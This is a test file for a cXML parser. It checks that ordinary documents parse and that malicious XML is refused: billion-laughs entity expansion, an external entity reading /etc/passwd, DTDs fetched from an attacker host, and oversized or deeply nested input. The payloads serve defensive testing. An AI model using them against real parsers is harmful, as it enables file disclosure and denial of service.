import fc from 'fast-check';
import { readXml } from '../../../../adapters/protocols/cxml/read-xml';
import { CxmlRefused, type CxmlRefusal } from '../../../../adapters/protocols/cxml/refused';
import { allowedInXml, writeXml, xml } from '../../../../adapters/protocols/cxml/write-xml';

const DTD = 'http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd';

function refusalOf(read: () => unknown): CxmlRefused {
  try {
    read();
  } catch (error) {
    expect(error).toBeInstanceOf(CxmlRefused);
    return error as CxmlRefused;
  }
  throw new Error('it was read');
}

describe('is read', () => {
  it.each([
    ['the DOCTYPE that cXML carries', `<!DOCTYPE cXML SYSTEM "${DTD}"><cXML/>`],
    [
      'the DTD of what follows orders',
      `<!DOCTYPE cXML SYSTEM "${DTD.replace('cXML.dtd', 'Fulfill.dtd')}"><cXML/>`,
    ],
    [
      'an older version, in single quotes',
      `<!DOCTYPE cXML SYSTEM 'https://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd' ><cXML/>`,
    ],
    ['no DOCTYPE at all', '<cXML/>'],
    ['a byte order mark', '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<cXML/>'],
    ['comments and instructions', '<?xml-stylesheet href="x"?><!-- a --><cXML><!-- b --></cXML>'],
  ])('%s', (_, text) => {
    expect(readXml(text).name).toBe('cXML');
  });

  it('text around children, references and CDATA', () => {
    const root = readXml('<a x="1 &lt; 2">one &amp; <b>two</b><![CDATA[<three> & ]]>&#x41;</a>');
    expect(root.text).toBe('one & <three> & A');
    expect(root.attributes.get('x')).toBe('1 < 2');
    expect(root.children.map(({ name, text }) => [name, text])).toEqual([['b', 'two']]);
  });

  it('names that mean something to JavaScript', () => {
    const root = readXml('<__proto__ constructor="x"><toString/></__proto__>');
    expect([root.name, root.attributes.get('constructor'), root.children.length]).toEqual([
      '__proto__',
      'x',
      1,
    ]);
  });
});

const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

describe('is refused', () => {
  it.each<readonly [string, string, CxmlRefusal]>([
    ['a billion laughs', `<!DOCTYPE cXML [<!ENTITY l0 "ha">${laughs}]><cXML>&l9;</cXML>`, 'DOCTYPE'],
    [
      'a file as an entity',
      '<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]><cXML>&x;</cXML>',
      'DOCTYPE',
    ],
    [
      'an internal subset beside the right DTD',
      `<!DOCTYPE cXML SYSTEM "${DTD}" [<!ENTITY a "b">]><cXML/>`,
      'DOCTYPE',
    ],
    ['an empty internal subset', `<!DOCTYPE cXML SYSTEM "${DTD}" []><cXML/>`, 'DOCTYPE'],
    [
      'parameter entities',
      '<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.example/p.dtd">%p;]><cXML/>',
      'DOCTYPE',
    ],
    [
      'a DTD at another host',
      '<!DOCTYPE cXML SYSTEM "http://evil.example/schemas/cXML/1.2.063/cXML.dtd"><cXML/>',
      'DOCTYPE',
    ],
    [
      'a host that only begins alike',
      '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org.evil.example/schemas/cXML/1.2/cXML.dtd"><cXML/>',
      'DOCTYPE',
    ],
    ['a DTD from a file', '<!DOCTYPE cXML SYSTEM "file:///schemas/cXML/1.2/cXML.dtd"><cXML/>', 'DOCTYPE'],
    ['a public id', `<!DOCTYPE cXML PUBLIC "-//x" "${DTD}"><cXML/>`, 'DOCTYPE'],
    ['a DOCTYPE of something else', '<!DOCTYPE html><html/>', 'DOCTYPE'],
    ['an entity that nobody defined', '<cXML>&nbsp;</cXML>', 'NOT_WELL_FORMED'],
    ['a reference to a forbidden character', '<cXML>&#0;</cXML>', 'NOT_WELL_FORMED'],
    ['a control character', '<cXML>\u0001</cXML>', 'NOT_WELL_FORMED'],
    ['two attributes of one name', '<cXML a="1" a="2"/>', 'NOT_WELL_FORMED'],
    ['an end that is missing', '<cXML><Header>', 'NOT_WELL_FORMED'],
    ['an end in the middle of a tag', '<cXML><Head', 'NOT_WELL_FORMED'],
    ['crossed tags', '<a><b></a></b>', 'NOT_WELL_FORMED'],
    ['two roots', '<cXML/><cXML/>', 'NOT_WELL_FORMED'],
    ['text after the root', '<cXML/>more', 'NOT_WELL_FORMED'],
    ['nothing', '', 'NOT_WELL_FORMED'],
    ['JSON', '{"cXML": 1}', 'NOT_WELL_FORMED'],
    ['HTML as browsers take it', '<html><br><p>Hi</html>', 'NOT_WELL_FORMED'],
    ['another encoding', '<?xml version="1.0" encoding="UTF-7"?><cXML/>', 'ENCODING'],
    ['forty-one levels', `${'<a>'.repeat(41)}${'</a>'.repeat(41)}`, 'TOO_COMPLEX'],
    ['a hundred thousand levels', '<a>'.repeat(100_000), 'TOO_COMPLEX'],
    ['more elements than any order has', `<a>${'<b/>'.repeat(30_001)}</a>`, 'TOO_COMPLEX'],
    [
      'very many attributes',
      `<a ${Array.from({ length: 65 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
      'TOO_COMPLEX',
    ],
    ['over a megabyte', `<a>${'é'.repeat(500_001)}</a>`, 'TOO_LARGE'],
  ])('%s', (_, text, reason) => {
    const refused = refusalOf(() => readXml(text));
    expect(refused.reason).toBe(reason);
    expect(refused.message).not.toMatch(/saxes|unclosed|passwd|evil|\d:\d/);
  });
});

const anyText = fc.string({ unit: 'binary', maxLength: 60 });
const anyName = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.-]{0,10}$/);

it('whatever text is written is what is read, less what XML forbids', () => {
  fc.assert(
    fc.property(anyName, anyText, anyText, (name, text, attribute) => {
      const root = readXml(writeXml(xml(name, { a: attribute }, text, xml('inner', {}, text))));
      expect(root.text).toBe(allowedInXml(text));
      expect(root.attributes.get('a')).toBe(allowedInXml(attribute));
      expect(root.children[0]?.text).toBe(allowedInXml(text));
    }),
  );
});

it('a document with a piece changed is read or refused, and nothing else', () => {
  const document = writeXml(xml('cXML', { a: '1' }, xml('b', {}, 'text & <more>'), xml('c', { d: '"' })));
  fc.assert(
    fc.property(fc.nat(document.length), fc.nat(5), fc.string({ maxLength: 5 }), (at, cut, put) => {
      const mutated = document.slice(0, at) + put + document.slice(at + cut);
      try {
        readXml(mutated);
      } catch (error) {
        expect(error).toBeInstanceOf(CxmlRefused);
      }
    }),
    { numRuns: 500 },
  );
});
